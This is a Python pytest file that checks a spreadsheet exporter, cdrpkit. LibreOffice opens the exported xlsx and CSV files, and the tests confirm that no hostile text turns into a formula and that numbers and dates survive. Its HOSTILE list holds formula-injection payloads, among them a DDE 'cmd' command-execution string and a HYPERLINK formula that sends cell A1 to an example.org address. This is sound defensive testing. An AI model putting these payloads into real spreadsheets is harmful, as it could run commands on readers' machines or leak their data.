"""What a spreadsheet makes of returns: LibreOffice opens them, and is the judge."""

from __future__ import annotations

import datetime as dt
import os
import shutil
import subprocess
from decimal import Decimal
from typing import Annotated

import attrs
import pytest
from lxml import etree

import cdrpkit
from cdrpkit import returns
from cdrpkit.quantities import Money, Unit
from cdrpkit.table import Column, Return, Table
from cdrpkit.testing.values import AWKWARD_TEXTS

OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?x="&A1,"open")',
    '=WEBSERVICE("https://example.org")',
    '=DDE("soffice";"a";"b")',
    "{=1+1}",
    "=",
    "==1",
    "+1+1",
    "+A1",
    "-1+1",
    "--1",
    "-A1",
    "@SUM(A1:A9)",
    "@",
    "|calc",
    "%0A=1",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    "a,=1+1",
    'a",=1+1,"',
    "a\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "of:=1+1",
    "msoxl:=1+1",
    "#REF!",
    "#N/A",
    "TRUE",
    "1E5",
    "1/2",
    "00123",
    "50%",
    "£5",
    "31/12/2005",
    "12:00",
    "https://example.org",
    "_x0041_",
    "_x000D_x000D_",
    "]]>",
    "&#61;1+1",
    "a\rb",
    *AWKWARD_TEXTS,
)
"""Texts that some spreadsheet runs, links, or takes for something else."""

NUMBERS = tuple(
    Decimal(each)
    for each in ("-5", "-0.50", "-1E-7", "0", "55.80", "999999999999999", "1E+15")
)


@attrs.frozen
class Row:
    """A row with a text and numbers."""

    text: Annotated[str, Column(title="Text", description="Words.")]
    listed: Annotated[tuple[str, ...], Column(title="List", description="Words.")]
    count: Annotated[int, Column(title="Count", description="How many.")]
    number: Annotated[Decimal, Column(title="Number", description="How much.")]
    spent: Annotated[Money, Column(title="Spent", description="£", unit=Unit.POUNDS)]
    on: Annotated[dt.date, Column(title="On", description="When.")]
    done: Annotated[bool, Column(title="Done", description="Whether.")]


ROWS = tuple(
    Row(
        text,
        (text, "b"),
        -number,
        NUMBERS[number % len(NUMBERS)],
        Money(f"-{number}.50"),
        dt.date(1900, 3, 1) + dt.timedelta(days=number * 1000),
        number % 2 == 0,
    )
    for number, text in enumerate(HOSTILE)
)
RETURN = Return(
    name="hostile",
    title="=1+1",
    description="+1+1",
    on=dt.date(2005, 12, 8),
    table=Table(row_class=Row, rows=ROWS),
    notes=HOSTILE,
)


@pytest.fixture(scope="module")
def converted(tmp_path_factory):
    """Return the path of a return that LibreOffice has opened, and saved anew."""
    soffice = shutil.which("soffice")
    if soffice is None:
        report = pytest.fail if os.environ.get("CI") else pytest.skip
        report("soffice is not installed; what it makes of returns is not tested")
    profile = tmp_path_factory.mktemp("profile")

    def _converted(made, suffix, to, *arguments, **options):
        folder = tmp_path_factory.mktemp("spreadsheet")
        source = folder / f"{made.name}{suffix}"
        cdrpkit.export(made, source, options=options)
        subprocess.run(
            [
                soffice,
                f"-env:UserInstallation={profile.as_uri()}",
                "--headless",
                *arguments,
                "--convert-to",
                to,
                "--outdir",
                folder / "out",
                source,
            ],
            check=True,
            capture_output=True,
            timeout=240,
        )
        return folder / "out" / f"{made.name}.{to}"

    return _converted


CASES = {
    "workbook": (".xlsx", (), {}),
    "csv": (".csv", ("--infilter=CSV:44,34,76,1",), {"audience": "excel"}),
}


@pytest.fixture(scope="module", params=CASES)
def cells(request, converted):
    """Return the cells of the table as LibreOffice has them, row by row."""
    suffix, arguments, options = CASES[request.param]
    path = converted(RETURN, suffix, "fods", *arguments, **options)
    root = etree.parse(path, etree.XMLParser(huge_tree=True)).getroot()
    formulas = root.findall(f".//*[@{TABLE}formula]")
    sheet = root.find(f".//{TABLE}table[@{TABLE}name='hostile']")
    rows = sheet.findall(f".//{TABLE}table-row")
    filled = [[*_cells(row)] for row in rows]
    start = next(at for at, row in enumerate(filled) if len(row) == 7) + 1
    return formulas, filled[start : start + len(ROWS)]


def _cells(row):
    """Yield the kind and value of each cell, as often as it stands there."""
    for cell in row.findall(f"{TABLE}table-cell"):
        kind = cell.get(f"{OFFICE}value-type")
        value = cell.get(f"{OFFICE}value") or cell.get(f"{OFFICE}date-value")
        if kind is not None:
            times = int(cell.get(f"{TABLE}number-columns-repeated", "1"))
            yield from [(kind, value)] * times


def test_no_formula(cells):
    """Whatever a text looks like, there is not one formula in the file."""
    formulas, rows = cells
    assert formulas == []
    assert len(rows) == len(ROWS)


def test_every_number_is_a_number(cells):
    """Each number is one, negative ones first, and the same to the last digit."""
    _, rows = cells
    for row, found in zip(ROWS, rows, strict=True):
        values = [(kind, Decimal(value)) for kind, value in found[2:5]]
        assert values == [
            ("float", row.count),
            ("float", row.number),
            (values[2][0], row.spent.pounds),
        ]
        assert values[2][0] in {"float", "currency"}
        assert found[5] == ("date", row.on.isoformat())


def test_a_workbook_leaves_texts_alone(converted):
    """In a workbook each text is a text, and what LibreOffice saves is read back."""
    path = converted(RETURN, ".xlsx", "xlsx")
    found = returns.read(Row, path).rows
    for expected, row in zip(ROWS, found, strict=True):
        assert attrs.evolve(row, text="", listed=()) == attrs.evolve(
            expected, text="", listed=()
        )
        # It saves a carriage return so that XML takes it for the end of a line, and
        # what looks like an escape as if it were one.
        if "_x00" not in expected.text:
            assert row.text.replace("\r", "\n") == expected.text.replace("\r", "\n")
        assert len(row.listed) == 2
